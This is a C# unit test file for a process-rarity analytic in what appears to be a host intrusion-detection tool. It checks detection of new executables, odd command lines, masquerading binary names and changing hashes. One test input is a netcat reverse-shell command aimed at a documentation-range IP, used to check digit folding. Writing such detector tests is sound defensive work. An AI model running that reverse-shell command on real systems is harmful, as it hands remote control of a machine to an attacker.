using Atalaya.Core.Analytics;
using Atalaya.Core.Schema;

namespace Atalaya.Core.Tests.Analytics;

public sealed class RarityAnalyticTests
{
    private static readonly RarityOptions Small = new() { WarmUpProcesses = 10, CommonExecutable = 5 };

    private static EcsEvent Proc(int pid, string executable, string? commandLine = null, string? sha256 = null, string? package = null)
    {
        var value = SampleEvents.Process(executable, pid: pid);
        return value with
        {
            Process = value.Process! with { CommandLine = commandLine ?? executable, Hash = sha256 is null ? null : new HashFields { Sha256 = sha256 } },
            Atalaya = package is null ? null : new AtalayaFields { Process = new AtalayaProcessFields { Package = package } },
        };
    }

    private static List<Signal> Feed(RarityAnalytic analytic, params EcsEvent[] events)
    {
        var sink = new ListSink();
        foreach (var value in events)
        {
            analytic.Observe(value, sink);
        }

        return sink.Signals;
    }

    private static EcsEvent[] WarmUp() =>
        [.. Enumerable.Range(1, 10).Select(pid => Proc(pid, "/usr/bin/sleep", $"sleep {pid}", package: "coreutils"))];

    [Fact]
    public void Nothing_is_rare_during_warm_up()
    {
        var analytic = new RarityAnalytic(Small);
        Assert.Empty(Feed(analytic, [.. Enumerable.Range(1, 10).Select(pid => Proc(pid, $"/opt/x/tool{pid}"))]));
        Assert.Equal(10, analytic.Population);
    }

    [Fact]
    public void A_new_unpackaged_executable_after_warm_up_is_rare_once()
    {
        var analytic = new RarityAnalytic(Small);
        Feed(analytic, WarmUp());
        var signal = Assert.Single(Feed(analytic, Proc(100, "/home/ana/.cache/x"), Proc(100, "/home/ana/.cache/x"), Proc(101, "/home/ana/.cache/x")));
        Assert.Equal("atalaya.analytic.rarity.executable", signal.SourceId);
        Assert.Equal("/home/ana/.cache/x runs for the first time among 10 processes observed, and no package owns it", signal.Detail);
        Assert.Equal(12.5, signal.Contribution, 3);
        Assert.Empty(Feed(analytic, Proc(102, "/usr/bin/newly-installed", package: "newpkg")));
        Assert.Equal(13, analytic.Population); // pid 100 counted once despite the repeated snapshot
    }

    [Fact]
    public void A_new_command_line_shape_of_a_common_executable_is_rare_but_digits_do_not_count()
    {
        var analytic = new RarityAnalytic(Small);
        Feed(analytic, WarmUp());
        Assert.Empty(Feed(analytic, Proc(50, "/usr/bin/sleep", "sleep 999999", package: "coreutils")));
        var signal = Assert.Single(Feed(analytic, Proc(51, "/usr/bin/sleep", "sleep infinity", package: "coreutils")));
        Assert.Equal("atalaya.analytic.rarity.command-line", signal.SourceId);
        Assert.Equal("sleep ran 11 times before, never with a command line like: sleep infinity", signal.Detail);
    }

    [Fact]
    public void One_name_at_three_unpackaged_paths_and_one_path_with_three_hashes()
    {
        var analytic = new RarityAnalytic(new RarityOptions { WarmUpProcesses = 1_000 });
        var signals = Feed(analytic,
            Proc(1, "/tmp/a/kdevtmpfs"), Proc(2, "/var/tmp/kdevtmpfs"), Proc(3, "/dev/shm/kdevtmpfs"), Proc(4, "/root/kdevtmpfs"),
            Proc(5, "/opt/app/run", sha256: "h1"), Proc(6, "/opt/app/run", sha256: "h1"), Proc(7, "/opt/app/run", sha256: "h2"), Proc(8, "/opt/app/run", sha256: "h3"));
        Assert.Equal(2, signals.Count);
        Assert.Equal("atalaya.analytic.rarity.name-paths", signals[0].SourceId);
        Assert.Equal("kdevtmpfs runs from 3 different unpackaged paths: /tmp/a/kdevtmpfs, /var/tmp/kdevtmpfs, /dev/shm/kdevtmpfs", signals[0].Detail);
        Assert.Equal(["T1036"], signals[0].Techniques);
        Assert.Equal("atalaya.analytic.rarity.path-hashes", signals[1].SourceId);
        Assert.Equal("/opt/app/run had 3 different contents while observed: h1, h2, h3", signals[1].Detail);
    }

    [Fact]
    public void Packaged_names_and_a_single_upgrade_are_quiet()
    {
        var analytic = new RarityAnalytic(new RarityOptions { WarmUpProcesses = 1_000 });
        Assert.Empty(Feed(analytic,
            Proc(1, "/usr/bin/python3", package: "python3"), Proc(2, "/usr/local/bin/python3", package: "x"), Proc(3, "/opt/py/bin/python3", package: "y"),
            Proc(4, "/usr/sbin/nginx", sha256: "old"), Proc(5, "/usr/sbin/nginx", sha256: "new")));
    }

    [Fact]
    public void State_is_bounded()
    {
        var analytic = new RarityAnalytic(new RarityOptions { WarmUpProcesses = 0, Capacity = 64 });
        var signals = Feed(analytic, [.. Enumerable.Range(1, 5_000).Select(pid => Proc(pid, $"/tmp/t{pid}", $"t{pid} --x"))]);
        Assert.Equal(5_000, analytic.Population);
        Assert.Equal(5_000, signals.Count); // every one is new
        Assert.InRange(analytic.TrackedKeys, 64, 5 * 64);
    }

    [Theory]
    [InlineData("sleep 60", "sleep #")]
    [InlineData("nc -e /bin/sh 203.0.113.5 4444", "nc -e /bin/sh #.#.#.# #")]
    [InlineData("", "")]
    public void Command_line_shapes_fold_digit_runs(string commandLine, string expected) =>
        Assert.Equal(expected, RarityAnalytic.Shape(commandLine));
}
